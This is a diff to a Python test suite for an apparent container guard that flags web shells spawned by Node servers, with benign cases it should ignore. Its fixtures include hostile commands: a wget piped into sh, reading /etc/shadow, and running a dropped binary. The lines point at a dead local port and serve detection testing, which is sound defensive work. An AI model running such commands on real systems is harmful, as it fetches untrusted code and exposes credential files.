@@ -228,10 +228,14 @@ def test_shell(tap):
             bring = "mkdir -p /opt; cp /bin/pvran /opt/helper; /opt/helper; sleep 4"
             dropped = d.run(["node", "/app/server.js", "sh", bring], name="dropped", image=RUN)
             fetch = d.run(["node", "/app/server.js", "sh", "wget -q http://127.0.0.1:1/x | sh; sleep 4"], name="fetches", image=RUN)
+            d.run(["sh", "-c", "node /app/server.js sh 'cat /etc/shadow; sleep 4'; true"], name="behind-entry", image=RUN)
+            healthy = d.run(["node", "wait", "1000"], name="health-check", image=RUN, health=["CMD", "node", "/app/check.js", "sh", "id; wget -q http://127.0.0.1:1/; true"])
             for one in (dropped, fetch):
                 one.wait()
             honest = {
                 "entrypoint": ["sh", "-c", "id; exec node /app/server.js"],
+                "entry-is-parent": ["sh", "-c", "wget -q http://127.0.0.1:1/; node /app/server.js; true"],
+                "wrapped-command": ["node", "/app/wrap.js", "--", "sh", "-c", "id; node /app/server.js; true"],
                 "package-script": ["node", "/bin/npm", "sh", "id; cp /bin/pvran /bin/tool; /bin/tool"],
                 "shell-alone": ["sh", "-c", "sh -c id"],
             }
@@ -244,6 +248,8 @@ def test_shell(tap):
             old.wait()
             n = g.wait_notice("exec.web-shell", "reads")
             tap.ok(n and n["severity"] == "critical" and "that reads an .env file" in n["detail"]["what"], "one that reads credentials is critical", n)
+            n = g.wait_notice("exec.web-shell", "behind-entry")
+            tap.ok(n and n["severity"] == "critical" and "had node start" in n["detail"]["what"], "so is a server's below a script that is the entry", n)
             n = g.wait_notice("exec.web-shell", "hacked")
             tap.ok(n and n["action"] == "alerted" and "node start a shell: sh -c id" in n["detail"]["what"], "a server's shell is told", n)
             ev = {e["what"]: e["value"] for e in n["detail"]["evidence"]} if n else {}
@@ -256,10 +262,12 @@ def test_shell(tap):
             tap.eq(b and b.lacks(dropped.id, "/opt/helper", helper("pvran")), [], "with evidence as whole")
             n = g.wait_notice("exec.web-shell", "fetches", where=lambda n: "fetch" in n["detail"]["what"])
             tap.ok(n and n["severity"] == "critical", "a fetch in such a shell is critical", g.notices("exec.web-shell"))
+            ran = lambda: healthy.inspect()["State"]["Health"]["Log"]
+            tap.ok(wait_for(lambda: ran() and "uid" in ran()[-1]["Output"], 10), "a health check starts a shell, which fetches", ran())
             tap.ok(g.wait_notice("exec.web-shell", "was-there"), "also of a server that ran before the guard", g.notices("exec.web-shell"))
             time.sleep(1.2)
             told = {n["subject"]["name"] for n in g.notices("exec.web-shell")}
-            tap.eq(told & (set(honest) | {"checked"}), set(), "entrypoints, package scripts, shells of shells and docker exec do not count")
+            tap.eq(told & (set(honest) | {"checked", "health-check"}), set(), "entrypoints, package scripts, shells of shells and docker exec, health checks and wrapped commands do not count")
             tap.eq([n["detail"]["what"] for n in g.notices("exec.dropped") if n["subject"]["name"] != "dropped" and n["action"] == "blocked"],
                    [], "and what they bring runs")
 
